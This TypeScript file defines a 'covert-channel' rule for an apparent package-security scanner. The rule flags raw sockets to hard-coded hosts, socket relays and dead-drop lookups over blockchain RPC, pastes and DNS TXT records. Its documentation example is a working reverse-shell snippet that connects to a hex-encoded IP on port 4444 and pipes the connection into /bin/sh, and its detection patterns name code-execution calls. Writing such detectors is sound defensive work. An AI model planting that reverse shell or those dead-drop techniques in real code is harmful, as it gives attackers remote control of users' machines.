import type { Node, Program } from '@babel/types';
import { defineRule, type BodyHints, type CallInfo, type FileContext, HOLE, runsOnLoad, parentOf, NETWORK_CALLS, destinationOf } from '../src/engine/api.js';
import { isPublicIPv4 } from '../src/engine/indicators.js';
import { CHAIN_READ_METHOD, DEAD_DROP_URLS, ipLiteral } from '../src/engine/catalog.js';
import { hintSource } from '../src/catalog/hints.js';
import type { Reach, Severity, Signal } from '../src/types.js';

/** Helpers that hold a dead-drop URL or a JSON-RPC body for a call elsewhere. */
const BODY_HINTS: BodyHints = { literals: new RegExp(`${hintSource(DEAD_DROP_URLS)}|gist|paste|rentry|calendar|eth_call|eth_getStorageAt|getSignaturesForAddress|getTransaction`), code: /resolveTxt|\.pipe\s*\(/ };

/** Raw sockets by canonical callee: `net.connect(port, host)`, `new net.Socket().connect(port, host)`. */
const SOCKET_CALLS = /^(?:net\.(?:connect|createConnection)|tls\.connect|net\.Socket\(\)\.connect|tls\.TLSSocket\(\)\.connect)$/;
const DNS_TXT = /^dns(?:\.promises)?\.(?:resolveTxt|resolve)$/;
/** What turns a dead drop's answer into an action in the same file: code, a process, a new request. */
const DEAD_DROP_USE = /\bfetch\s*\(\s*[\w$]+\s*[,)]|\bhttps?\s*\.\s*get\s*\(\s*[\w$]+\s*[,)]|\bwriteFileSync\s*\(|\beval\s*\(|\bnew\s+Function\s*\(|\bFunction\s*\(|\bvm\s*\.\s*run|runIn(?:New|This)?Context|\bexecSync\s*\(|\bexec\s*\(|\bspawn\s*\(|\bexecFile\s*\(|\bfork\s*\(|\batob\s*\(|from\s*\([^)]*['"]base64['"]/;

/**
 * Code that runs when the file loads: top-level code, IIFEs, and a function the top level calls by
 * name (`async function main() { … } main();`), one level deep.
 */
export function runsAtLoad(node: Node): boolean {
  if (runsOnLoad(node)) return true;
  let fn: Node | undefined;
  let program: Node | undefined;
  for (let p = parentOf(node), i = 0; p && i < 500; p = parentOf(p), i++) {
    if (!fn && (p.type === 'FunctionDeclaration' || p.type === 'FunctionExpression' || p.type === 'ArrowFunctionExpression')) fn = p;
    if (p.type === 'Program') program = p;
  }
  if (!fn || !program) return false;
  let name: string | undefined;
  if (fn.type === 'FunctionDeclaration' && fn.id) name = fn.id.name;
  else {
    const decl = parentOf(fn);
    if (decl?.type === 'VariableDeclarator' && decl.id.type === 'Identifier') name = decl.id.name;
  }
  if (!name) return false;
  for (const st of (program as Program).body) {
    if (st.type !== 'ExpressionStatement') continue;
    let e: Node = st.expression;
    for (let i = 0; i < 6; i++) {
      if (e.type === 'AwaitExpression' || e.type === 'UnaryExpression') e = e.argument;
      else if (e.type === 'CallExpression' && e.callee.type === 'MemberExpression') e = e.callee.object;
      else break;
    }
    if (e.type === 'CallExpression' && e.callee.type === 'Identifier' && e.callee.name === name) return true;
  }
  return false;
}

/** A hard-coded remote host: an IP in any form, or a host name that is not local. */
function hardCodedHost(host: string | undefined): { host: string; ip: boolean } | undefined {
  if (!host || host.includes(HOLE)) return undefined;
  const ip = ipLiteral(host);
  if (ip) return ip.includes(':') || isPublicIPv4(ip) ? { host: ip === host ? host : `${host} (${ip})`, ip: true } : undefined;
  if (/^(?:localhost|.*\.local|.*\.localhost|.*\.internal)$/i.test(host) || !/^[a-z0-9.-]+\.[a-z]{2,}$/i.test(host)) return undefined;
  return { host, ip: false };
}

function argsOf(call: CallInfo): Node[] {
  return call.node.arguments.filter((a): a is Exclude<typeof a, { type: 'ArgumentPlaceholder' | 'SpreadElement' }> => a.type !== 'ArgumentPlaceholder' && a.type !== 'SpreadElement') as Node[];
}

/** Host and port of a socket call: `(port, host)`, `({ host, port })`. */
function socketTarget(call: CallInfo, ctx: FileContext): { host?: string; port?: string } {
  const args = argsOf(call);
  const first = args[0];
  if (!first) return {};
  const opts = first.type === 'ObjectExpression' ? first : first.type === 'Identifier' ? ctx.evaluator.initOf(first) : undefined;
  if (opts?.type === 'ObjectExpression') {
    const out: { host?: string; port?: string } = {};
    for (const p of opts.properties) {
      if (p.type !== 'ObjectProperty' || p.computed || p.key.type !== 'Identifier') continue;
      const v = ctx.evaluator.fold(p.value);
      if (/^(?:host|hostname)$/.test(p.key.name) && (typeof v === 'string' || typeof v === 'number')) out.host = String(v);
      if (p.key.name === 'port' && (typeof v === 'number' || typeof v === 'string')) out.port = String(v);
    }
    return out;
  }
  const port = ctx.evaluator.fold(first);
  const host = args[1] ? ctx.evaluator.fold(args[1]) : undefined;
  return { port: typeof port === 'number' || typeof port === 'string' ? String(port) : undefined, host: typeof host === 'string' || typeof host === 'number' ? String(host) : undefined };
}

/** Is the socket (the call, or the variable it is kept in) piped to or from another stream? */
function piped(call: CallInfo, ctx: FileContext): boolean {
  const parent = parentOf(call.node);
  let name: string | undefined;
  if (parent?.type === 'VariableDeclarator' && parent.id.type === 'Identifier') name = parent.id.name;
  else if (parent?.type === 'AssignmentExpression' && parent.left.type === 'Identifier') name = parent.left.name;
  if (parent?.type === 'MemberExpression' && parent.property.type === 'Identifier' && parent.property.name === 'pipe') return true;
  if (!name) return /\.pipe\s*\(/.test(ctx.text.slice(call.node.start ?? 0, (call.node.end ?? 0) + 200)) && /\.pipe\s*\(\s*\w+\s*\)\s*\.pipe/.test(ctx.text);
  const n = name.replace(/[$]/g, '\\$');
  return new RegExp(`\\b${n}\\s*\\.\\s*pipe\\s*\\(|\\.pipe\\s*\\(\\s*${n}\\s*\\)`).test(ctx.text);
}

function judge(reach: Reach, atLoad: boolean, strong: boolean): Severity {
  if (reach === 'install') return strong ? 'critical' : 'high';
  if (reach === 'import' && atLoad) return strong ? 'high' : 'medium';
  return 'low';
}

function signalsOf(severity: Severity, signal: Signal): Signal[] {
  return severity === 'critical' || severity === 'high' ? [signal, 'sink:network'] : ['sink:network'];
}

export default defineRule({
  meta: {
    id: 'covert-channel',
    title: 'Covert channels, relays and dead drops',
    description:
      "Reports raw sockets opened toward hard-coded hosts (`net.connect`, `tls.connect`, `new net.Socket().connect`, with IP addresses in any form: dotted, integer, hex, octal, IPv6), sockets piped to other streams (relays, SOCKS/CONNECT proxies, reverse shells), and dead drops: a contract read over JSON-RPC (`eth_call` and kin), a gist, paste, calendar or public document, or a DNS TXT lookup, whose answer the same file turns into code, a process or a new request. Reading a dead drop is what the 2025 campaigns did to move their servers without a new release. Judged by when it runs: from install-time code or as soon as the package is loaded it is evidence (critical or high); in a library function, where proxies and RPC clients take their hosts from the caller, it is low.",
    severity: 'high',
    category: 'network',
    references: ['https://attack.mitre.org/techniques/T1090/', 'https://attack.mitre.org/techniques/T1102/001/', 'https://attack.mitre.org/techniques/T1071/004/'],
    docs: {
      example: "// index.js, on load\nconst s = net.connect(4444, '0xCB007109');\ns.pipe(require('child_process').spawn('/bin/sh').stdin);",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule covert-channel`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    const seen = new Set<string>();
    const once = (ctx: FileContext, node: Node) => {
      const key = `${ctx.path}\0${node.start}`;
      if (seen.has(key)) return false;
      seen.add(key);
      return true;
    };
    const deadDrop = (ctx: FileContext, node: Node, what: string) => {
      if (!once(ctx, node)) return;
      const atLoad = runsAtLoad(node);
      const used = DEAD_DROP_USE.test(ctx.text);
      const severity = judge(ctx.reach, atLoad, used);
      // In a library function this is what RPC clients and status checks do: not worth a line.
      if (severity === 'low') return;
      // Reading alone is what status checks and RPC clients do: evidence only when the answer is used.
      const signals: Signal[] = used && (severity === 'critical' || severity === 'high') ? ['dead-drop', 'sink:network'] : ['sink:network'];
      ctx.report({ node, message: `reads ${what}${used ? ' and the same file runs what it gets (code, a process or a decoded payload)' : ''}`, severity: used ? severity : severity === 'critical' || severity === 'high' ? 'medium' : 'low', signals });
    };
    return {
      bodyHints: BODY_HINTS,
      nodes: {
        StringLiteral(node, ctx) {
          // JSON-RPC bodies: { method: 'eth_call', params: [{ to: '0x…', data }] }, or the same as a JSON string.
          if (node.type !== 'StringLiteral') return;
          const v = node.value;
          if (v.length > 4000 || !/eth_|getSignaturesForAddress|getTransaction|getAccountInfo/.test(v)) return;
          let method: string | undefined;
          if (CHAIN_READ_METHOD.test(v)) {
            const parent = parentOf(node);
            if (parent?.type === 'ObjectProperty' && parent.value === node && !parent.computed && ((parent.key.type === 'Identifier' && parent.key.name === 'method') || (parent.key.type === 'StringLiteral' && parent.key.value === 'method'))) method = v;
          } else method = /"method"\s*:\s*"(\w+)"/.exec(v)?.[1];
          if (!method || !CHAIN_READ_METHOD.test(method)) return;
          if (!/0x[0-9a-fA-F]{40}\b|['"][1-9A-HJ-NP-Za-km-z]{32,44}['"]/.test(ctx.text)) return;
          deadDrop(ctx, node, `a hard-coded blockchain contract or account (${method}), a dead drop for addresses or code`);
        },
      },
      call(call, ctx) {
        const callee = call.callee;
        if (!callee) return;
        if (DNS_TXT.test(callee)) {
          const args = argsOf(call);
          const type = args[1] ? ctx.evaluator.fold(args[1]) : undefined;
          if (callee.endsWith('resolveTxt') || type === 'TXT') {
            const name = args[0] ? ctx.evaluator.foldLoose(args[0]) : undefined;
            if (name && !name.includes(HOLE)) deadDrop(ctx, call.node, `DNS TXT records of ${name}`);
          }
          return;
        }
        if (NETWORK_CALLS.test(callee) && !SOCKET_CALLS.test(callee)) {
          const url = destinationOf(argsOf(call), ctx.evaluator);
          const drop = url ? DEAD_DROP_URLS.find((d) => d.re.test(url)) : undefined;
          if (drop) deadDrop(ctx, call.node, `${drop.label} (${url!.split(HOLE).join('…').slice(0, 100)})`);
          return;
        }
        if (!SOCKET_CALLS.test(callee)) return;
        const { host, port } = socketTarget(call, ctx);
        const remote = hardCodedHost(host);
        if (!remote || !once(ctx, call.node)) return;
        const isPiped = piped(call, ctx);
        const atLoad = runsAtLoad(call.node);
        const severity = judge(ctx.reach, atLoad, remote.ip || isPiped);
        ctx.report({
          node: call.node,
          message: `opens a raw socket to ${remote.ip ? 'the hard-coded address' : 'the hard-coded host'} ${remote.host}${port ? `:${port}` : ''}${isPiped ? ' and pipes it to or from another stream (relay, proxy or remote shell)' : ''}`,
          severity,
          signals: signalsOf(severity, 'covert-channel'),
        });
      },
    };
  },
});
